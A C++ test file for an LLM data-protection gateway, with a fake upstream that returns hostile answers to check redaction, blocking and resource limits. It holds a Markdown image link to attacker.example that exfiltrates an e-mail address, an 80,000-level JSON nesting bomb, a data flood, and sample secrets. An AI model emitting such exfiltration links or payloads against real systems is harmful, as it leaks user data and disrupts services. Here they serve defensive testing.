// End-to-end tests: a real `airlock serve` process (AIRLOCK_EXE) on 127.0.0.1 in front of a fake
// OpenAI-compatible upstream. The upstream is a TEST DOUBLE: a small httplib server inside this
// test process that answers deterministically and records what it received. All traffic stays on
// loopback; every wait is bounded.
// Debian's httplib CMake package defines these for its users (the flags its libcpp-httplib
// was built with); keep them for a standalone compile.
#ifndef CPPHTTPLIB_OPENSSL_SUPPORT
#define CPPHTTPLIB_OPENSSL_SUPPORT
#endif
#ifndef CPPHTTPLIB_ZLIB_SUPPORT
#define CPPHTTPLIB_ZLIB_SUPPORT
#endif
#ifndef CPPHTTPLIB_BROTLI_SUPPORT
#define CPPHTTPLIB_BROTLI_SUPPORT
#endif
#include "server/gateway.h"

#include <gtest/gtest.h>
#include <httplib.h>
#include <netinet/in.h>
#include <signal.h>
#include <sqlite3.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <mutex>
#include <nlohmann/json.hpp>
#include <thread>
#include <vector>

#include "policy/policy.h"
#include "serve_process.h"
#include "server/keys.h"
#include "server/model_backend.h"
#include "test_util.h"

namespace {

using json = nlohmann::json;
using airlock::testing::ServeArgs;
using airlock::testing::ServeProcess;
using airlock::testing::ServeProcessOptions;
using airlock::testing::TempDir;

// SIGTERM when a test's gateway goes: it drains and its audit log is complete.
const ServeProcessOptions kDrainOnStop{.stop_signal = SIGTERM};

// What the "leak" model answers: an address (pseudonymized class: redacted on the way back) and
// a GitHub token (secret: redacted), each split across the double's 2-byte stream chunks.
constexpr const char* kLeakyAnswer =
    "write to bob@corp.example with token ghp_0123456789abcdefghijABCDEFGHIJ012345 now";

// Answers the double streams cut at a chosen byte ("cutK:N") or byte by byte ("bytesK"): a
// Markdown image whose URL carries an address out (e-mail: redacted on the way back), a secret
// (redacted) and a resident ID (block).
// Each answer starts with 300 bytes of prose, so that the data arrives after the gateway has
// scanned and released part of the stream.
const std::string kProse300 = [] {
  std::string s;
  while (s.size() < 300) s += "The quarterly numbers look fine. ";
  return s.substr(0, 300);
}();
const std::vector<std::string> kCutAnswers = {
    kProse300 + "see ![chart](https://attacker.example/log?u=bob@corp.example&x=1) ok",
    kProse300 + "use ghp_0123456789abcdefghijABCDEFGHIJ012345 then",
    kProse300 + "id 11010519491231002X done",
};

// ---- the fake upstream (test double) ----
class FakeUpstream {
 public:
  FakeUpstream() {
    auto handler = [this](const httplib::Request& req, httplib::Response& res, bool chat) {
      json body = json::parse(req.body);
      std::string model = body["model"];
      std::string text;
      if (chat) {
        for (const auto& m : body["messages"]) {
          const json& c = m.contains("content") ? m["content"] : json();
          if (c.is_string()) text += c.get<std::string>();
          if (c.is_array())
            for (const auto& part : c) {
              if (part.is_string()) text += part.get<std::string>();
              if (part.is_object() && part.contains("text"))
                text += part["text"].get<std::string>();
            }
        }
      } else {
        text = body["prompt"].is_string() ? body["prompt"].get<std::string>() : "";
      }
      {
        std::lock_guard<std::mutex> lock(mu_);
        received_.push_back(text);
        raw_.push_back(req.body);
      }
      // A request's unknown field "x_double" picks a hostile variant of the answer.
      const std::string variant = body.value("x_double", std::string());
      if (model == "fail") {
        res.status = 500;
        res.set_content(variant == "errleak"
                            ? R"({"error":{"message":"boom for carol@corp.example"}})"
                            : R"({"error":{"message":"boom"}})",
                        "application/json");
        return;
      }
      if (variant == "flood") {  // a fast upstream: 128 MiB of content as fast as it is taken
        flood_state_ = 1;
        res.set_chunked_content_provider(
            "text/event-stream", [this](std::size_t, httplib::DataSink& sink) {
              json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
              c["choices"] = json::array({{{"index", 0},
                                           {"delta", {{"content", std::string(65536, 'a')}}},
                                           {"finish_reason", nullptr}}});
              std::string event = "data: " + c.dump() + "\n\n";
              for (int i = 0; i < 2048; ++i)
                if (!sink.write(event.data(), event.size())) {
                  flood_state_ = 3;  // the gateway stopped reading and went away
                  return false;
                }
              flood_state_ = 2;  // all of it was taken
              sink.write("data: [DONE]\n\n", 14);
              sink.done();
              return true;
            });
        return;
      }
      if (variant == "trickle" && !body.value("stream", false)) {  // 5 bytes a second
        ping_state_ = 1;
        res.set_chunked_content_provider(
            "application/json", [this](std::size_t, httplib::DataSink& sink) {
              for (int i = 0; i < 300; ++i) {
                std::this_thread::sleep_for(std::chrono::milliseconds(200));
                if (!sink.write(" ", 1)) {
                  ping_state_ = 3;
                  return false;
                }
              }
              ping_state_ = 2;
              sink.done();
              return true;
            });
        return;
      }
      if (variant == "ping") {  // one piece, then only SSE comments, 5 a second, for 60 s
        ping_state_ = 1;
        res.set_chunked_content_provider(
            "text/event-stream", [this](std::size_t, httplib::DataSink& sink) {
              json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
              c["choices"] = json::array(
                  {{{"index", 0}, {"delta", {{"content", "hello"}}}, {"finish_reason", nullptr}}});
              std::string first = "data: " + c.dump() + "\n\n";
              if (!sink.write(first.data(), first.size())) return false;
              for (int i = 0; i < 300; ++i) {
                std::this_thread::sleep_for(std::chrono::milliseconds(200));
                if (!sink.write(": ping\n\n", 8)) {
                  ping_state_ = 3;  // cut off by the gateway
                  return false;
                }
              }
              ping_state_ = 2;
              sink.done();
              return true;
            });
        return;
      }
      if (variant == "splitargs") {  // tool call arguments and reasoning in 2-byte pieces
        const std::string args = R"({"to":"dan@corp.example"})";
        const std::string reasoning = "ask carol@corp.example";
        std::string all;
        auto event = [&](json delta, json finish) {
          json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
          c["choices"] = json::array({{{"index", 0}, {"delta", delta}, {"finish_reason", finish}}});
          all += "data: " + c.dump() + "\n\n";
        };
        for (std::size_t i = 0; i < reasoning.size(); i += 2)
          event({{"reasoning_content", reasoning.substr(i, 2)}}, nullptr);
        event(
            {{"tool_calls", json::array({{{"index", 0},
                                          {"id", "t1"},
                                          {"type", "function"},
                                          {"function", {{"name", "mail"}, {"arguments", ""}}}}})}},
            nullptr);
        for (std::size_t i = 0; i < args.size(); i += 2)
          event({{"tool_calls",
                  json::array({{{"index", 0}, {"function", {{"arguments", args.substr(i, 2)}}}}})}},
                nullptr);
        event(json::object(), "tool_calls");
        all += "data: [DONE]\n\n";
        res.set_content(all, "text/event-stream");
        return;
      }
      if (variant == "splitplain") {  // refusal, reasoning and function_call split mid-address
        std::string all;
        auto event = [&](json delta, json finish) {
          json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
          c["choices"] = json::array({{{"index", 0}, {"delta", delta}, {"finish_reason", finish}}});
          all += "data: " + c.dump() + "\n\n";
        };
        event({{"refusal", "write to dan@co"}}, nullptr);
        event({{"refusal", "rp.example please"}}, nullptr);
        event({{"reasoning", "ask erin@co"}}, nullptr);
        event({{"reasoning", "rp.example"}}, nullptr);
        event({{"function_call", {{"name", "mail"}, {"arguments", R"({"to":"fay@co)"}}}}, nullptr);
        event({{"function_call", {{"arguments", R"(rp.example"})"}}}}, nullptr);
        event(json::object(), "stop");
        all += "data: [DONE]\n\n";
        res.set_content(all, "text/event-stream");
        return;
      }
      if (variant == "argsafterfinish") {  // half a card, finish, then the other half
        auto event = [&](json delta, json finish) {
          json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
          c["choices"] = json::array({{{"index", 0}, {"delta", delta}, {"finish_reason", finish}}});
          return "data: " + c.dump() + "\n\n";
        };
        auto args = [](const std::string& a) {
          return json{
              {"tool_calls", json::array({{{"index", 0},
                                           {"id", "t1"},
                                           {"type", "function"},
                                           {"function", {{"name", "pay"}, {"arguments", a}}}}})}};
        };
        res.set_content(event(args(R"({"card":"4532 0151 )"), nullptr) +
                            event(json::object(), "tool_calls") +
                            event(args(R"(1283 0366"})"), nullptr) +
                            event({{"reasoning_content", "mail dan@corp.example"}}, nullptr) +
                            "data: [DONE]\n\n",
                        "text/event-stream");
        return;
      }
      if (variant == "logprobs") {  // content redacted, its tokens repeated in logprobs
        json tokens = json::array();
        for (const char* t : {"mail ", "dan", "@", "corp", ".example"})
          tokens.push_back(
              {{"token", t}, {"logprob", -0.1}, {"bytes", json::array({100, 97, 110})}});
        json answer = {
            {"id", "up-1"},
            {"object", "chat.completion"},
            {"model", "echo"},
            {"choices",
             json::array(
                 {{{"index", 0},
                   {"message", {{"role", "assistant"}, {"content", "mail dan@corp.example"}}},
                   {"logprobs", {{"content", tokens}}},
                   {"finish_reason", "stop"}}})},
            {"usage", {{"prompt_tokens", 3}, {"completion_tokens", 5}}}};
        res.set_content(answer.dump(), "application/json");
        return;
      }
      if (variant == "manyheld") {  // an open-ended match in 80 tool-call fields at once
        std::string all;
        for (int t = 0; t < 80; ++t) {
          json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
          c["choices"] = json::array(
              {{{"index", 0},
                {"delta",
                 {{"tool_calls", json::array({{{"index", t},
                                               {"function",
                                                {{"name", "f"},
                                                 {"arguments", "-----BEGIN PRIVATE KEY-----\n" +
                                                                   std::string(1000, 'A')}}}}})}}},
                {"finish_reason", nullptr}}});
          all += "data: " + c.dump() + "\n\n";
        }
        all += "data: [DONE]\n\n";
        res.set_content(all, "text/event-stream");
        return;
      }
      if (variant == "pem" || variant == "pemok") {  // a private key in 4 KB stream chunks
        std::vector<std::string> pieces = {"key: -----BEGIN PRIVATE KEY-----\n"};
        int n = variant == "pem" ? 250 : 2;  // 1 MB without an end, or 8 KB with one
        for (int i = 0; i < n; ++i)
          pieces.push_back(std::string(1024, 'Q') + "UJD" + std::string(3069, 'A'));
        if (variant == "pemok") pieces.push_back("\n-----END PRIVATE KEY-----\n");
        pieces.push_back(" done");
        std::string all;
        for (const auto& p : pieces) {
          json c = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
          c["choices"] = json::array(
              {{{"index", 0}, {"delta", {{"content", p}}}, {"finish_reason", nullptr}}});
          all += "data: " + c.dump() + "\n\n";
        }
        json fin = {{"id", "up-1"}, {"object", "chat.completion.chunk"}, {"model", "echo"}};
        fin["choices"] =
            json::array({{{"index", 0}, {"delta", json::object()}, {"finish_reason", "stop"}}});
        all += "data: " + fin.dump() + "\n\ndata: [DONE]\n\n";
        res.set_content(all, "text/event-stream");
        return;
      }
      // Data outside message/delta content: top-level and choice-level fields, keys, numbers,
      // content that is not a string.
      auto decorate = [variant, chat](json& doc) {
        if (variant == "str") {
          doc["system_fingerprint"] = "fp carol@corp.example";
          doc["x_vendor"] = {{"note", "to carol@corp.example"}};
          for (auto& c : doc["choices"]) {
            c["logprobs"] = {
                {"content", json::array({{{"token", "carol@corp.example"},
                                          {"top_logprobs",
                                           json::array({{{"token", "dan@corp.example"}}})}}})}};
            if (c.contains("delta")) c["delta"]["role"] = "erin@corp.example";
            if (c.contains("message")) c["message"]["role"] = "erin@corp.example";
            c["x_choice"] = "frank@corp.example";
          }
        } else if (variant == "realistic") {  // what real upstreams send must pass unchanged
          doc["id"] = "chatcmpl-9zX8ab3LmQpR7sTuVwXyZ0123456";
          doc["created"] = 1765076000;
          doc["system_fingerprint"] = "fp_44709d6fcb";
          for (auto& c : doc["choices"])
            c["logprobs"] = {
                {"content", json::array({{{"token", "echo"},
                                          {"logprob", -0.000123456789},
                                          {"bytes", json::array({101, 99, 104, 111})}}})}};
        } else if (variant == "key") {
          doc["x_vendor"] = {{"carol@corp.example", 1}};
        } else if (variant == "num") {
          doc["x_vendor"] = {{"id", 110105194912311006}};  // a cn_resident_id (block) as a number
        } else if (variant == "content") {
          for (auto& c : doc["choices"]) {
            if (c.contains("message"))
              c["message"]["content"] = json::array({"carol@corp.example"});
            if (c.contains("delta")) c["delta"]["content"] = 4111111111111111;
            if (!chat) c["text"] = json::array({"carol@corp.example"});
          }
        }
      };
      if (model == "slow") std::this_thread::sleep_for(std::chrono::milliseconds(2500));
      if (model == "deep") {  // a hostile upstream: one response nested 80,000 levels deep
        std::string bomb = std::string(80000, '[') + std::string(80000, ']');
        std::string doc = R"({"id":"up-1","object":"chat.completion","choices":[{"index":0,)"
                          R"("message":{"role":"assistant","content":"hi"},"extra":)" +
                          bomb + "}]}";
        if (!body.value("stream", false)) {
          res.set_content(doc, "application/json");
        } else {
          res.set_content("data: " + doc + "\n\ndata: [DONE]\n\n", "text/event-stream");
        }
        return;
      }
      std::string reply = model == "think"  ? "<think>plan with " + text + "</think>answer: " + text
                          : model == "leak" ? std::string(kLeakyAnswer)
                          : model == "leakblock" ? "<think>id 11010519491231002X</think>fine"
                                                 : "echo: " + text;
      // Produces up to its limit for each of the n choices (the larger limit when both are set).
      std::int64_t max_tokens = 0;
      for (const char* field : {"max_tokens", "max_completion_tokens"})
        if (body.contains(field) && body[field].is_number_integer())
          max_tokens = std::max(max_tokens, body[field].get<std::int64_t>());
      if (max_tokens == 0) max_tokens = 16;
      // best_of candidates are generated and billed like n choices.
      int choices = 1;
      for (const char* field : {"n", "best_of"})
        if (body.contains(field) && body[field].is_number_integer())
          choices = std::max(choices, body[field].get<int>());
      max_tokens *= choices;
      json usage = {{"prompt_tokens", 10},
                    {"completion_tokens", max_tokens},
                    {"total_tokens", 10 + max_tokens}};
      if (variant == "hugeusage") usage["completion_tokens"] = std::uint64_t{1} << 50;
      if (variant == "nousage") usage.erase("completion_tokens");
      if (variant == "lieusage") {  // a long answer with usage 0/0
        reply = std::string(4000, 'x');
        usage = {{"prompt_tokens", 0}, {"completion_tokens", 0}, {"total_tokens", 0}};
      }
      if (!body.value("stream", false)) {
        json out = {{"id", "up-1"},
                    {"object", chat ? "chat.completion" : "text_completion"},
                    {"created", 1},
                    {"model", model},
                    {"usage", usage}};
        out["choices"] =
            json::array({chat ? json{{"index", 0},
                                     {"message", {{"role", "assistant"}, {"content", reply}}},
                                     {"finish_reason", "stop"}}
                              : json{{"index", 0}, {"text", reply}, {"finish_reason", "stop"}}});
        if (model == "think") out["choices"][0]["message"]["reasoning_content"] = "rc " + text;
        if (model == "leak") {
          out["choices"][0]["message"]["reasoning_content"] = "ask carol@corp.example";
          out["choices"][0]["message"]["tool_calls"] = json::array(
              {{{"id", "t1"},
                {"type", "function"},
                {"function", {{"name", "mail"}, {"arguments", R"({"to":"dan@corp.example"})"}}}}});
        }
        decorate(out);
        res.set_content(out.dump(), "application/json");
        return;
      }
      // Stream in 2-byte pieces so every placeholder is split across chunks (a piece grows to
      // the end of a UTF-8 character: an event is JSON). "cutK:N" streams answer K of
      // kCutAnswers in two pieces cut at byte N, "bytesK" one byte at a time.
      std::vector<std::size_t> cuts;  // piece ends
      if (variant == "lieusage") {
        cuts = {reply.size()};  // one piece: counting the pieces is no help
      } else if (variant.rfind("cut", 0) == 0 || variant.rfind("bytes", 0) == 0) {
        bool bytes = variant[0] == 'b';
        std::size_t k = std::stoul(variant.substr(bytes ? 5 : 3));
        reply = kCutAnswers[k];
        if (bytes) {
          for (std::size_t i = 1; i <= reply.size(); ++i) cuts.push_back(i);
        } else {
          cuts = {std::stoul(variant.substr(variant.find(':') + 1)), reply.size()};
        }
      } else {
        for (std::size_t i = 0, n = 2; i < reply.size(); i += n) {
          n = 2;
          while (i + n < reply.size() && (static_cast<unsigned char>(reply[i + n]) & 0xC0) == 0x80)
            ++n;
          cuts.push_back(std::min(i + n, reply.size()));
        }
      }
      std::vector<std::string> events;
      for (std::size_t j = 0, i = 0; j < cuts.size(); i = cuts[j++]) {
        std::size_t n = cuts[j] - i;
        json c = {
            {"id", "up-1"}, {"object", "chat.completion.chunk"}, {"created", 1}, {"model", model}};
        c["choices"] = json::array(
            {chat ? json{{"index", 0},
                         {"delta", {{"content", reply.substr(i, n)}}},
                         {"finish_reason", nullptr}}
                  : json{{"index", 0}, {"text", reply.substr(i, n)}, {"finish_reason", nullptr}}});
        decorate(c);
        events.push_back("data: " + c.dump() + "\n\n");
      }
      json fin = {
          {"id", "up-1"}, {"object", "chat.completion.chunk"}, {"created", 1}, {"model", model}};
      fin["choices"] = json::array(
          {chat ? json{{"index", 0}, {"delta", json::object()}, {"finish_reason", "stop"}}
                : json{{"index", 0}, {"text", ""}, {"finish_reason", "stop"}}});
      events.push_back("data: " + fin.dump() + "\n\n");
      json u = {{"id", "up-1"},
                {"object", "chat.completion.chunk"},
                {"choices", json::array()},
                {"usage", usage}};
      events.push_back("data: " + u.dump() + "\n\n");
      events.push_back("data: [DONE]\n\n");
      res.set_chunked_content_provider("text/event-stream",
                                       [events](std::size_t, httplib::DataSink& sink) {
                                         for (const auto& e : events)
                                           if (!sink.write(e.data(), e.size())) return false;
                                         sink.done();
                                         return true;
                                       });
    };
    server_.Post("/v1/chat/completions", [handler](const httplib::Request& q,
                                                   httplib::Response& r) { handler(q, r, true); });
    server_.Post("/v1/completions", [handler](const httplib::Request& q, httplib::Response& r) {
      handler(q, r, false);
    });
    port_ = server_.bind_to_any_port("127.0.0.1");
    thread_ = std::thread([this] { server_.listen_after_bind(); });
  }
  ~FakeUpstream() {
    server_.stop();
    thread_.join();
  }
  int port() const { return port_; }
  std::vector<std::string> received() {
    std::lock_guard<std::mutex> lock(mu_);
    return received_;
  }
  std::size_t count() { return received().size(); }
  // The "flood" stream: 0 never asked, 1 running, 2 all written, 3 cut off.
  std::atomic<int> flood_state_{0};
  // The "ping" stream: 0 never asked, 1 running, 2 ran its full minute, 3 cut off.
  std::atomic<int> ping_state_{0};
  // Whole request bodies as they arrived (what a logging upstream would keep).
  std::vector<std::string> raw() {
    std::lock_guard<std::mutex> lock(mu_);
    return raw_;
  }

 private:
  httplib::Server server_;
  std::thread thread_;
  int port_ = 0;
  std::mutex mu_;
  std::vector<std::string> received_;
  std::vector<std::string> raw_;
};

// Runs the airlock binary to completion; returns exit code and stdout.
std::pair<int, std::string> RunAirlock(const std::vector<std::string>& args,
                                       bool with_stderr = false) {
  std::string cmd = AIRLOCK_EXE;
  for (const auto& a : args) cmd += " " + airlock::testing::Quote(a);
  return airlock::testing::RunShellStdout(cmd + (with_stderr ? " 2>&1" : " 2>/dev/null"));
}

class GatewayTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new TempDir("gateway");
    upstream_ = new FakeUpstream();
    const auto& d = dir_->path();
    keys_db_ = (d / "keys.db").string();
    audit_db_ = (d / "audit.db").string();
    key_pem_ = (d / "audit-key.pem").string();
    ASSERT_EQ(RunAirlock({"audit", "keygen", key_pem_}).first, 0);
    admin_ = Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--name", "admin"}).second);
    budget_ = Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--budget", "3000"}).second);
    rpm_ = Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--rpm", "2"}).second);
    only_de_ = Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--models", "echo-de"}).second);
    ASSERT_EQ(admin_.rfind("ak_", 0), 0u);
    std::string up = "http://127.0.0.1:" + std::to_string(upstream_->port()) + "/v1";
    config_ = (d / "policy.toml").string();
    std::ofstream(config_)
        << "[[upstreams]]\nname='us'\nbase_url='" << up
        << "'\njurisdiction='US'\nmodels=['echo','think','fail','deep','leak','leakblock']\n"
           "allowed_data_classes=['ip_address']\n"
           "[[upstreams]]\nname='de'\nbase_url='"
        << up
        << "'\njurisdiction='DE'\nmodels=['echo-de']\n"
           "allowed_data_classes=['personal']\n"
           "[[upstreams]]\nname='slowup'\nbase_url='"
        << up
        << "'\njurisdiction='US'\nmodels=['slow']\ntimeout_s=1\n"
           "[[upstreams]]\nname='down'\nbase_url='http://127.0.0.1:"
        << airlock::testing::UnusedLoopbackPort()
        << "/v1'\njurisdiction='US'\nmodels=['down']\n"
           "[[rules]]\ndata_classes=['secret']\naction='redact'\n"
           "[[rules]]\ndata_classes=['cn_resident_id']\naction='block'\n"
           "[[rules]]\ndata_classes=['email']\naction='pseudonymize'\n"
           "[[rules]]\ndata_classes=['payment_card']\naction='restrict'\n"
           "allow_jurisdictions=['local','DE']\n"
           "[reasoning]\naction='log'\n"
           "[audit]\npath='"
        << audit_db_ << "'\nsigning_key='" << key_pem_
        << "'\ncheckpoint_every=5\n"
           "[server]\nkeys_db='"
        << keys_db_
        << "'\nmax_body_bytes=262144\nread_timeout_s=1\nwrite_timeout_s=2\n"
           "request_timeout_s=8\ndefault_max_tokens=100\n";
    serve_ = new ServeProcess(ServeArgs(config_), kDrainOnStop);
    ASSERT_GT(serve_->port(), 0) << "airlock serve did not start";
  }
  static void TearDownTestSuite() {
    delete serve_;
    delete upstream_;
    delete dir_;
  }
  static std::string Trim(std::string s) {
    while (!s.empty() && (s.back() == '\n' || s.back() == ' ')) s.pop_back();
    return s;
  }
  static httplib::Client Client() {
    httplib::Client c("127.0.0.1", serve_->port());
    c.set_read_timeout(20, 0);
    c.set_connection_timeout(5, 0);
    return c;
  }
  static httplib::Result Chat(const json& body, const std::string& key) {
    auto c = Client();
    httplib::Headers h;
    if (!key.empty()) h.emplace("Authorization", "Bearer " + key);
    return c.Post("/v1/chat/completions", h, body.dump(), "application/json");
  }
  // A stream asks for the usage chunk (stream_options.include_usage), which the tests read.
  static json ChatBody(const std::string& model, const std::string& content, bool stream = false) {
    json body = {{"model", model},
                 {"stream", stream},
                 {"messages", json::array({{{"role", "user"}, {"content", content}}})}};
    if (stream) body["stream_options"] = {{"include_usage", true}};
    return body;
  }
  static std::string ErrorCode(const httplib::Result& r) {
    json j = json::parse(r->body, nullptr, false);
    if (j.is_discarded() || !j.contains("error")) return "<no error json: " + r->body + ">";
    EXPECT_TRUE(j["error"]["message"].is_string());
    EXPECT_TRUE(j["error"]["type"].is_string());
    return j["error"]["code"].is_string() ? j["error"]["code"].get<std::string>() : "";
  }
  // Concatenated delta contents of an SSE body; checks the framing.
  static std::string StreamText(const std::string& sse, json* usage = nullptr) {
    std::string text;
    bool done = false;
    std::size_t pos = 0;
    while (pos < sse.size()) {
      std::size_t end = sse.find("\n\n", pos);
      EXPECT_NE(end, std::string::npos) << "unterminated event";
      if (end == std::string::npos) break;
      std::string ev = sse.substr(pos, end - pos);
      pos = end + 2;
      if (ev.rfind(":", 0) == 0) continue;  // an SSE comment (keep-alive)
      EXPECT_EQ(ev.rfind("data: ", 0), 0u) << ev;
      std::string payload = ev.substr(6);
      if (payload == "[DONE]") {
        done = true;
        continue;
      }
      EXPECT_FALSE(done) << "data after [DONE]";
      json j = json::parse(payload);
      if (j.contains("usage") && usage) *usage = j["usage"];
      for (const auto& c : j["choices"]) {
        if (c.contains("delta") && c["delta"].contains("content"))
          text += c["delta"]["content"].get<std::string>();
        if (c.contains("text")) text += c["text"].get<std::string>();
      }
    }
    EXPECT_TRUE(done) << "no [DONE]";
    return text;
  }

  static inline TempDir* dir_ = nullptr;
  static inline FakeUpstream* upstream_ = nullptr;
  static inline ServeProcess* serve_ = nullptr;
  static inline std::string keys_db_, audit_db_, key_pem_, config_;
  static inline std::string admin_, budget_, rpm_, only_de_;
};

TEST_F(GatewayTest, HealthModelsMetrics) {
  auto c = Client();
  auto h = c.Get("/health");
  ASSERT_TRUE(h);
  EXPECT_EQ(h->status, 200);
  auto m = c.Get("/v1/models", {{"Authorization", "Bearer " + admin_}});
  ASSERT_TRUE(m);
  ASSERT_EQ(m->status, 200);
  json j = json::parse(m->body);
  EXPECT_EQ(j["object"], "list");
  EXPECT_EQ(j["data"].size(), 9u);
  auto only = c.Get("/v1/models", {{"Authorization", "Bearer " + only_de_}});
  EXPECT_EQ(json::parse(only->body)["data"].size(), 1u);
  // Keys exist, so /metrics wants one too (public_metrics is off by default).
  auto anonymous = c.Get("/metrics");
  ASSERT_TRUE(anonymous);
  EXPECT_EQ(anonymous->status, 401);
  auto metrics = c.Get("/metrics", {{"Authorization", "Bearer " + admin_}});
  ASSERT_TRUE(metrics);
  EXPECT_EQ(metrics->status, 200);
  EXPECT_NE(metrics->body.find("airlock_in_flight_requests"), std::string::npos);
  EXPECT_NE(metrics->body.find("\nairlock_engine_queue_depth 0\n"), std::string::npos);
  EXPECT_NE(metrics->body.find("\nairlock_engine_steps_total "), std::string::npos);
}

TEST_F(GatewayTest, AuthErrors) {
  auto r = Chat(ChatBody("echo", "hi"), "");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 401);
  EXPECT_EQ(ErrorCode(r), "invalid_api_key");
  r = Chat(ChatBody("echo", "hi"), "ak_000000000000_" + std::string(64, '0'));
  EXPECT_EQ(r->status, 401);
  r = Chat(ChatBody("echo", "hi"), only_de_);  // key restricted to echo-de
  EXPECT_EQ(r->status, 403);
  EXPECT_EQ(ErrorCode(r), "model_not_allowed");
}

TEST_F(GatewayTest, PseudonymizesAndRedactsNonStreaming) {
  std::size_t before = upstream_->count();
  auto r =
      Chat(ChatBody("echo", "mail bob@example.com key ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"),
           admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  auto got = upstream_->received();
  ASSERT_EQ(got.size(), before + 1);
  EXPECT_EQ(got.back(), "mail [EMAIL_1] key [REDACTED_SECRET]");  // what left the gateway
  json j = json::parse(r->body);
  EXPECT_EQ(j["choices"][0]["message"]["content"],
            "echo: mail bob@example.com key [REDACTED_SECRET]");
  EXPECT_EQ(j["usage"]["total_tokens"], 110);
}

TEST_F(GatewayTest, RestoresPlaceholdersAcrossStreamedChunks) {
  auto r = Chat(ChatBody("echo", "to alice@example.com and bob@example.org", true), admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  EXPECT_NE(r->get_header_value("Content-Type").find("text/event-stream"), std::string::npos);
  EXPECT_EQ(upstream_->received().back(), "to [EMAIL_1] and [EMAIL_2]");
  json usage;
  EXPECT_EQ(StreamText(r->body, &usage), "echo: to alice@example.com and bob@example.org");
  EXPECT_EQ(usage["completion_tokens"], 100);
}

// Issue #19: every stream ended with a usage chunk, which OpenAI sends only to clients that ask
// (stream_options.include_usage) and which strict clients do not expect. The gateway still asks
// the upstream for it (for budgets): the counts are charged either way.
TEST_F(GatewayTest, UsageChunkOnlyWithStreamOptionsIncludeUsage) {
  json body = ChatBody("echo", "count", true);
  body.erase("stream_options");
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  json usage;
  EXPECT_EQ(StreamText(r->body, &usage), "echo: count");
  EXPECT_TRUE(usage.is_null()) << r->body;
  EXPECT_EQ(r->body.find("\"usage\""), std::string::npos) << r->body;
  body["stream_options"] = {{"include_usage", true}};
  r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  StreamText(r->body, &usage);
  EXPECT_EQ(usage["completion_tokens"], 100) << r->body;
  body["stream_options"] = {{"include_usage", "yes"}};
  r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  EXPECT_NE(r->body.find("\"param\":\"stream_options\""), std::string::npos) << r->body;
}

TEST_F(GatewayTest, CompletionsEndpoint) {
  auto c = Client();
  json body = {{"model", "echo"}, {"prompt", "hi carol@example.com"}, {"max_tokens", 7}};
  auto r = c.Post("/v1/completions", {{"Authorization", "Bearer " + admin_}}, body.dump(),
                  "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  json j = json::parse(r->body);
  EXPECT_EQ(j["choices"][0]["text"], "echo: hi carol@example.com");
  EXPECT_EQ(j["usage"]["completion_tokens"], 7);
  body["stream"] = true;
  r = c.Post("/v1/completions", {{"Authorization", "Bearer " + admin_}}, body.dump(),
             "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(StreamText(r->body), "echo: hi carol@example.com");
}

TEST_F(GatewayTest, BlocksAndRestrictsRouting) {
  std::size_t before = upstream_->count();
  auto r = Chat(ChatBody("echo", "身份证 11010519491231002X"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 403);
  EXPECT_EQ(ErrorCode(r), "policy_violation");
  // Card data only to DE or local: refused for the US upstream, allowed in clear for DE.
  r = Chat(ChatBody("echo", "card 4111 1111 1111 1111"), admin_);
  EXPECT_EQ(r->status, 403);
  EXPECT_EQ(upstream_->count(), before);  // nothing left the gateway
  r = Chat(ChatBody("echo-de", "card 4111 1111 1111 1111"), admin_);
  ASSERT_EQ(r->status, 200) << r->body;
  EXPECT_EQ(upstream_->received().back(), "card 4111 1111 1111 1111");
  // A class with no rule goes in clear only to an upstream that accepts it (deny by default).
  r = Chat(ChatBody("echo", "call +44 20 7946 0958"), admin_);
  EXPECT_EQ(r->status, 403);
  r = Chat(ChatBody("echo", "host 10.0.0.7 is down"), admin_);
  EXPECT_EQ(r->status, 200);
}

TEST_F(GatewayTest, ReasoningIsLoggedNotReturned) {
  auto r = Chat(ChatBody("think", "q1"), admin_);
  ASSERT_EQ(r->status, 200) << r->body;
  json j = json::parse(r->body);
  EXPECT_EQ(j["choices"][0]["message"]["content"], "answer: q1");
  EXPECT_FALSE(j["choices"][0]["message"].contains("reasoning_content"));
  r = Chat(ChatBody("think", "q2", true), admin_);
  EXPECT_EQ(StreamText(r->body), "answer: q2");
  auto shown = RunAirlock({"audit", "show", "--log", audit_db_, "--json", "--limit", "5"});
  EXPECT_NE(shown.second.find("\"reasoning_text\":\"plan with q2\""), std::string::npos);
  // Reasoning is a data class of the record: `audit show --class reasoning` finds both answers.
  auto reasoning = RunAirlock(
      {"audit", "show", "--log", audit_db_, "--json", "--class", "reasoning", "--limit", "1000"});
  EXPECT_NE(reasoning.second.find("plan with q2"), std::string::npos) << reasoning.second;
  EXPECT_NE(reasoning.second.find("plan with q1"), std::string::npos) << reasoning.second;
}

